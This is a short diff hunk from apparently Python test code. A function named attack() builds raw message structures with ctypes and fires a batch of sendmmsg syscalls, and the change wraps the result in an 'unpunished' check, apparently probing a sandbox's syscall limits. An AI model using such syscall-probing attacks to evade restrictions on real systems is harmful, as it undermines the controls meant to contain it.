@@ -8,4 +8,4 @@ def attack():
     part = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(text), 1))
     one = struct.pack("QIxxxxQQQQIxxxxIxxxx", 0, 0, ctypes.addressof(part), 1, 0, 0, 0, 0)
     with upwards() as up:
-        return syscall("sendmmsg", up.fileno(), one * 100, 100, 0x40)
+        return unpunished(syscall("sendmmsg", up.fileno(), one * 100, 100, 0x40))
